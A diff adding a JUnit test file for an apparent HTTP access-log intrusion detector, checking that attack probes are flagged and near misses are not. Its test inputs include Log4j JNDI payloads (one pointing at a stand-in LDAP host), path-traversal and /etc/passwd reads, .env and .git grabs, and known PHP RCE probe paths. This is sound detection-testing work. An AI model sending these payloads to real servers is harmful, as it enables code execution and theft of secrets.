@@ -1,0 +1,250 @@
+package dev.nethergaze.detect;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.nethergaze.TestData;
+import dev.nethergaze.model.Finding;
+import dev.nethergaze.model.HttpHit;
+import dev.nethergaze.model.IpKey;
+import dev.nethergaze.model.Severity;
+import java.nio.file.Path;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** HTTP rules on real attack samples (crowdsec hub) and on near misses that must stay quiet. */
+class HttpRulesTest {
+
+    private static final DetectSettings S = DetectSettings.defaults();
+    private static final IpKey LOCALHOST = IpKey.parse("127.0.0.1");
+
+    private static Finding only(Detector d, IpKey ip, String rule) {
+        return d.findings(ip).stream()
+                .filter(f -> f.rule().equals(rule))
+                .findFirst()
+                .orElseThrow(() -> new AssertionError(rule + " did not fire for " + ip + ": " + d.findings(ip)));
+    }
+
+    /** Every line of these crowdsec samples is a probe and must match on its own. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "crowdsec_nginx-http-path-traversal.log",
+                "crowdsec_nginx-http-sensitive-files.log",
+                "crowdsec_nginx-http-sqli-probing.log",
+                "crowdsec_nginx-http-xss-probing.log"
+            })
+    void everyCrowdsecProbeLineMatches(String file) {
+        List<HttpHit> hits = Samples.hits(TestData.path("accesslog/combined/" + file));
+        assertThat(hits).isNotEmpty();
+        for (HttpHit h : hits) {
+            assertThat(ProbePatterns.match(h, List.of()))
+                    .as("probe in %s", Evidence.of(h))
+                    .isNotNull();
+        }
+        Detector d = Samples.run(S, hits);
+        Finding f = only(d, LOCALHOST, ExploitProbeRule.ID);
+        assertThat(f.observed()).isEqualTo(hits.size());
+        assertThat(f.evidence())
+                .hasSize(S.evidenceItems())
+                .allSatisfy(e -> assertThat(e).contains("127.0.0.1"));
+        assertThat(f.reason()).contains(hits.size() + " exploit probes");
+    }
+
+    @Test
+    void traversalEvidenceNamesTheDecodedKind() {
+        Detector d = Samples.run(
+                S, Samples.hits(TestData.path("accesslog/combined/crowdsec_nginx-http-path-traversal.log")));
+        Finding f = only(d, LOCALHOST, ExploitProbeRule.ID);
+        // %252E%252E%252F is ../ encoded twice; /%2fetc%2fpasswd is /etc/passwd once
+        assertThat(f.reason()).contains("system file read").contains("path traversal");
+        assertThat(f.severity()).isEqualTo(Severity.HIGH);
+    }
+
+    @Test
+    void apacheProbingSampleIsProbingAndAnErrorBurst() {
+        List<HttpHit> hits = Samples.hits(TestData.path("accesslog/common/crowdsec_apache-http-probing.log"));
+        Detector d = Samples.run(S, hits);
+        IpKey ip = IpKey.parse("172.17.0.1");
+        assertThat(only(d, ip, ExploitProbeRule.ID).evidence()).isNotEmpty();
+        Finding errors = only(d, ip, ErrorBurstRule.ID);
+        assertThat(errors.observed()).isGreaterThanOrEqualTo(S.http().errorMin());
+        assertThat(errors.evidence()).allSatisfy(e -> assertThat(e).contains("\" 404 "));
+    }
+
+    @Test
+    void niktoUserAgentIsAScanner() {
+        Detector d =
+                Samples.run(S, Samples.hits(TestData.path("accesslog/combined/crowdsec_nginx-bad-user-agent.log")));
+        Finding f = only(d, LOCALHOST, ScannerAgentRule.ID);
+        assertThat(f.reason()).contains("'nikto'").contains("3 requests");
+        assertThat(f.evidence()).hasSize(3).allSatisfy(e -> assertThat(e).contains("Nikto/2.1.5"));
+    }
+
+    @Test
+    void scannerAgentIsCheckedOverRecentRequestsNotJustTheLast() {
+        String ip = "203.0.113.9";
+        List<HttpHit> hits = List.of(
+                Samples.hit(ip + " - - [29/Sep/2021:14:11:34 +0200] \"GET / HTTP/1.1\" 200 10 \"-\" \"sqlmap/1.7\""),
+                Samples.hit(ip + " - - [29/Sep/2021:14:11:35 +0200] \"GET /a HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0\""));
+        assertThat(only(Samples.run(S, hits), IpKey.parse(ip), ScannerAgentRule.ID)
+                        .evidence())
+                .singleElement()
+                .asString()
+                .contains("sqlmap");
+    }
+
+    /** Log4j arrives in headers and is obfuscated; it must match after decoding. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "\"GET / HTTP/1.1\" 400 0 \"-\" \"${jndi:ldap://198.51.100.5:1389/a}\"",
+                "\"GET / HTTP/1.1\" 400 0 \"${${lower:j}ndi:${lower:l}dap://x/a}\" \"Mozilla/5.0\"",
+                "\"GET /?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D HTTP/1.1\" 200 0 \"-\" \"Mozilla/5.0\"",
+                "\"GET / HTTP/1.1\" 200 0 \"-\" \"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}\"",
+            })
+    void log4jInHeadersAndQueries(String rest) {
+        HttpHit h = Samples.hit("2001:db8::66 - - [10/Dec/2021:12:00:00 +0000] " + rest);
+        ProbePatterns.Match m = ProbePatterns.match(h, List.of());
+        assertThat(m).isNotNull();
+        assertThat(m.probe().id()).isEqualTo("log4j");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "/.git/config",
+                "/.git/HEAD",
+                "/%2e%2e/%2e%2e/etc/passwd",
+                "/.env",
+                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+                "/index.php?s=/Index/\\think\\app/invokefunction",
+                "/shell.php",
+                "/cgi-bin/..%2f..%2f..%2fbin/sh"
+            })
+    void strongProbes(String target) {
+        HttpHit h = Samples.hit(
+                "192.0.2.50 - - [22/Nov/2026:03:00:00 +0000] \"GET " + target + " HTTP/1.1\" 404 0 \"-\" \"curl/8.5\"");
+        assertThat(ProbePatterns.match(h, List.of())).as(target).isNotNull();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "/.github/workflows/ci.yml",
+                "/.well-known/acme-challenge/abc",
+                "/blog/2026/environment-variables",
+                "/search?q=select+a+union+rep",
+                "/docs/git/",
+                "/static/app.js?v=3"
+            })
+    void nearMissPathsDoNotMatch(String target) {
+        HttpHit h = Samples.hit("192.0.2.50 - - [22/Nov/2026:03:00:00 +0000] \"GET " + target
+                + " HTTP/1.1\" 200 0 \"-\" \"Mozilla/5.0\"");
+        assertThat(ProbePatterns.match(h, List.of())).as(target).isNull();
+    }
+
+    @Test
+    void wordpressOwnerLoggingInOnceIsNotAProbe() {
+        String ip = "198.51.100.70";
+        List<HttpHit> hits = List.of(
+                Samples.hit(
+                        ip
+                                + " - - [22/Nov/2026:03:00:00 +0000] \"GET /wp-login.php HTTP/1.1\" 200 4000 \"-\" \"Mozilla/5.0\""),
+                Samples.hit(ip + " - - [22/Nov/2026:03:00:09 +0000] \"POST /wp-login.php HTTP/1.1\" 302 0 "
+                        + "\"https://example.org/wp-login.php\" \"Mozilla/5.0\""),
+                Samples.hit(
+                        ip
+                                + " - - [22/Nov/2026:03:00:10 +0000] \"GET /wp-admin/ HTTP/1.1\" 200 9000 \"-\" \"Mozilla/5.0\""));
+        assertThat(Samples.run(S, hits).findings(IpKey.parse(ip))).isEmpty();
+    }
+
+    @Test
+    void wordpressLoginHammeredOrMissingIsAProbe() {
+        String ip = "198.51.100.71";
+        List<HttpHit> missing = List.of(Samples.hit(
+                ip + " - - [22/Nov/2026:03:00:00 +0000] \"GET /wp-login.php HTTP/1.1\" 404 0 \"-\" \"Mozilla/5.0\""));
+        assertThat(only(Samples.run(S, missing), IpKey.parse(ip), ExploitProbeRule.ID)
+                        .reason())
+                .contains("WordPress login");
+        List<HttpHit> hammered = new ArrayList<>();
+        for (int i = 0; i < S.http().weakProbeHits(); i++) {
+            hammered.add(Samples.hit(ip + " - - [22/Nov/2026:03:00:1" + i
+                    + " +0000] \"POST /wp-login.php HTTP/1.1\" 200 0 \"-\" \"Mozilla/5.0\""));
+        }
+        assertThat(only(Samples.run(S, hammered), IpKey.parse(ip), ExploitProbeRule.ID)
+                        .observed())
+                .isEqualTo(1);
+    }
+
+    @Test
+    void allowedPathsAreNotProbes() {
+        HttpHit h = Samples.hit(
+                "192.0.2.50 - - [22/Nov/2026:03:00:00 +0000] \"GET /cgi-bin/status HTTP/1.1\" 404 0 \"-\" \"Mozilla/5.0\"");
+        assertThat(ProbePatterns.match(h, List.of("/cgi-bin/"))).isNull();
+        assertThat(ProbePatterns.match(h, List.of())).isNotNull();
+    }
+
+    /** A busy, legitimate API client: 4 requests/s for 5 minutes, all 200s: no burst, no errors. */
+    @Test
+    void busyApiClientIsNotFlagged() {
+        Instant t0 = Instant.parse("2026-11-22T03:00:00Z");
+        IpKey ip = IpKey.parse("2001:db8:a91::7");
+        List<HttpHit> hits = new ArrayList<>();
+        for (int s = 0; s < 300; s++) {
+            for (int k = 0; k < 4; k++) {
+                hits.add(new HttpHit(
+                        "api",
+                        t0.plusSeconds(s),
+                        ip,
+                        ip,
+                        "POST",
+                        "/api/v1/events?batch=" + (s * 4 + k),
+                        "HTTP/1.1",
+                        k == 3 && s % 50 == 0 ? 429 : 200,
+                        120,
+                        "-",
+                        "acme-sync/2.3 (+ops@example.org)",
+                        "",
+                        false));
+            }
+        }
+        assertThat(Samples.run(S, hits).findings(ip)).isEmpty();
+    }
+
+    @Test
+    void burstAboveTheRateFiresAndDecays() {
+        Instant t0 = Instant.parse("2026-11-22T03:00:00Z");
+        IpKey ip = IpKey.parse("192.0.2.99");
+        Detector d = new Detector(S, Allowlist.EMPTY, 100);
+        for (int i = 0; i < 150; i++) {
+            d.observe(new HttpHit(
+                    "t", t0.plusMillis(i * 40L), ip, ip, "GET", "/p" + i, "HTTP/1.1", 200, 1, "-", "x", "", false));
+        }
+        d.evaluate(t0.plusSeconds(6));
+        Finding f = only(d, ip, RequestBurstRule.ID);
+        assertThat(f.observed()).isEqualTo(150);
+        assertThat(f.evidence()).hasSize(S.evidenceItems());
+        d.evaluate(t0.plusSeconds(60));
+        assertThat(d.findings(ip)).isEmpty();
+    }
+
+    @Test
+    void realSiteLogRaisesFewFlags() {
+        Path file = TestData.path("accesslog/combined/drill_hackers-access_basjes.log");
+        List<HttpHit> hits = Samples.hits(file);
+        Detector d = new Detector(S, Allowlist.EMPTY, 10_000);
+        for (HttpHit h : hits) {
+            d.observe(h);
+            d.evaluate(h.time());
+        }
+        // 520 clients on a real blog; a handful of probers at most
+        assertThat(d.flagged().size()).isLessThan(20);
+        for (IpKey ip : d.flagged()) {
+            assertThat(d.findings(ip)).allSatisfy(f -> assertThat(f.evidence()).isNotEmpty());
+        }
+    }
+}
